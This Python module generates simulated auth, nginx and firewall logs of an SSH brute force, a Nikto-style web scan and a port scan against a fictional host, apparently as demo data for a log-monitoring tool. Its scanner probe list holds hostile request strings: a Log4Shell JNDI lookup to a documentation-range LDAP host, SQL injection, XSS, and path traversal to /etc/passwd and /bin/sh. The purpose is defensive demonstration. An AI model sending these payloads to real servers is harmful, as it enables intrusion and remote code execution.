"""The demo scenario: a generated attack on one made-up host, for a new user's first minutes.

An SSH brute force that ends in a login, a web scanner, and a port scan, among ordinary
traffic, as the log lines sshd, nginx and the kernel's netfilter would write them, timed in the
few minutes before `now`. Every address is from the documentation ranges (RFC 5737), so no
real network is named; the host is `DEMO_HOST` and its events go to the `DEMO_STREAM` stream,
so they are told apart from real data everywhere and can be removed.
"""

from __future__ import annotations

import datetime as dt
from dataclasses import dataclass

DEMO_HOST = "demo-web-1"
DEMO_STREAM = "demo"
DEMO_ZONE = "demo"
#: Days the log store keeps the demo stream (it is append-only: demo events expire, they are
#: not deleted).
DEMO_RETENTION_DAYS = 1

BRUTE_FORCER, SCANNER, PORT_SCANNER = "203.0.113.66", "198.51.100.23", "192.0.2.44"
OFFICE, VISITOR = "192.0.2.10", "198.51.100.10"
_USERS = ("admin", "oracle", "test", "ubuntu", "postgres", "git", "user", "pi", "ftp", "guest")
_PROBES = (
    "/.env",
    "/.git/config",
    "/wp-config.php.bak",
    "/backup.sql",
    "/phpmyadmin/",
    "/admin/login.php",
    "/server-status",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/?q=${jndi:ldap://198.51.100.23:1389/a}",
    "/products.php?id=1%27%20OR%20%271%27=%271",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/../../../../etc/passwd",
    "/shell.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
)
_SCANNED_PORTS = (
    *(21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433),
    *(1521, 2049, 3306, 3389, 5432, 5900, 6379, 8000, 8080, 8443, 9200, 11211, 27017),
)
_NIKTO = "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:{n:06d})"
_BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


@dataclass(frozen=True)
class DemoLog:
    """One generated log file: its parser format and its lines."""

    name: str
    format: str
    lines: list[str]


def _iso(moment: dt.datetime) -> str:
    return moment.isoformat(timespec="microseconds")


def _clf(moment: dt.datetime) -> str:
    return moment.strftime("%d/%b/%Y:%H:%M:%S +0000")


def _sshd(start: dt.datetime) -> list[str]:
    lines = []
    at = start
    lines.append(
        f"{_iso(at)} {DEMO_HOST} sshd[2100]: Accepted publickey for alice from {OFFICE} "
        "port 50122 ssh2: ED25519 SHA256:3q2+7wdemokeyalice"
    )
    for n, user in enumerate(_USERS):  # unknown accounts: user enumeration
        at = start + dt.timedelta(seconds=30 + 3 * n)
        lines.append(
            f"{_iso(at)} {DEMO_HOST} sshd[{2200 + n}]: Invalid user {user} from {BRUTE_FORCER} "
            f"port {41000 + n}"
        )
    for n in range(14):  # password guessing: a fast brute force
        at = start + dt.timedelta(seconds=70 + 2 * n)
        lines.append(
            f"{_iso(at)} {DEMO_HOST} sshd[{2300 + n}]: Failed password for deploy from "
            f"{BRUTE_FORCER} port {42000 + n} ssh2"
        )
    at = start + dt.timedelta(seconds=110)  # ... and one guess works
    lines.append(
        f"{_iso(at)} {DEMO_HOST} sshd[2400]: Accepted password for deploy from {BRUTE_FORCER} "
        "port 42999 ssh2"
    )
    return lines


def _nginx(start: dt.datetime) -> list[str]:
    lines = []
    for n in range(20):  # ordinary visitors
        at = start + dt.timedelta(seconds=6 * n)
        path = ("/", "/pricing", "/docs/", "/static/app.css", "/login")[n % 5]
        lines.append(
            f'{VISITOR} - - [{_clf(at)}] "GET {path} HTTP/1.1" 200 {3000 + n} '
            f'"https://example.com/" "{_BROWSER}"'
        )
    for n in range(30):  # the scanner: its probes, then missing paths one after another
        at = start + dt.timedelta(seconds=40 + n)
        path = _PROBES[n] if n < len(_PROBES) else f"/old-{n}.php"
        status = 404 if n % 7 else 403
        lines.append(
            f'{SCANNER} - - [{_clf(at)}] "GET {path} HTTP/1.1" {status} 153 "-" '
            f'"{_NIKTO.format(n=n + 1)}"'
        )
    return lines


def _netfilter(start: dt.datetime) -> list[str]:
    lines = []
    for n, port in enumerate(_SCANNED_PORTS):
        at = start + dt.timedelta(seconds=150, milliseconds=300 * n)
        lines.append(
            f"{_iso(at)} {DEMO_HOST} kernel: [91234.{n:06d}] IN=eth0 OUT= MAC=00 "
            f"SRC={PORT_SCANNER} DST=10.0.0.5 LEN=44 TTL=48 PROTO=TCP SPT=61000 DPT={port} "
            "WINDOW=1024 RES=0x00 SYN URGP=0"
        )
    return lines


def scenario(now: dt.datetime) -> list[DemoLog]:
    """The demo's log files, their lines in the three minutes before `now` (UTC)."""
    start = now.astimezone(dt.UTC) - dt.timedelta(minutes=3)
    return [
        DemoLog("auth.log", "sshd", _sshd(start)),
        DemoLog("access.log", "nginx", _nginx(start)),
        DemoLog("firewall.log", "nft", _netfilter(start)),
    ]
